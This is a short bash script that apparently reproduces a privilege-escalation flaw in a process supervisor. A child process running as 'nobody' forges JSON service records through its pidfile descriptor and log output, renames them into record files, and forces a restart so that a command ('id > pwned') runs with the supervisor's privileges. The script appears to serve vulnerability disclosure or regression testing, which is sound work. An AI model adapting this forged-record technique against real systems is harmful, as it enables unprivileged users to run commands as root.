#!/usr/bin/env bash
# forged-record.sh BIN [--allow-shared-folders]: see README.md.
set -u
M=$1 FLAG=${2:-}
B=$(mktemp -d); chmod 755 "$B"; R=$B/theirs; mkdir "$R"; chown nobody:nogroup "$R"
J() { echo "{\"name\":\"$1\",\"command\":[\"sh\",\"-c\",\"id > $B/pwned\"],\"pidfile\":\"$B/$1.pid\",\"logfile\":\"$B/$1.log\"}"; }
# The node, as nobody, writes a record through its pidfile's descriptor
# and one through its stdout (the logfile), then says so.
$M start w1 --rundir="$R" $FLAG -- setpriv --reuid=65534 --regid=65534 --clear-groups bash -c \
  "printf '%%s' '$(J evil)' >&\$MULTI_PIDFILE_FD; printf '%%s' '$(J evil2)'; : > $R/written; exec sleep 300"
echo "start: $?"
for _ in $(seq 100); do [ -e "$R/written" ] && break; sleep 0.05; done
pid=$(head -1 "$R/w1.pid" 2>/dev/null)
setpriv --reuid=65534 --regid=65534 --clear-groups mv "$R/w1.pid" "$R/evil.node"
setpriv --reuid=65534 --regid=65534 --clear-groups mv "$R/w1.log" "$R/evil2.node"
$M restart --rundir="$R" $FLAG; echo "restart: $?"
cat "$B/pwned" 2>/dev/null || echo "no forged command ran"
[ -n "$pid" ] && [ "$pid" -gt 1 ] && kill -KILL "$pid" 2>/dev/null
rm -rf "$B"
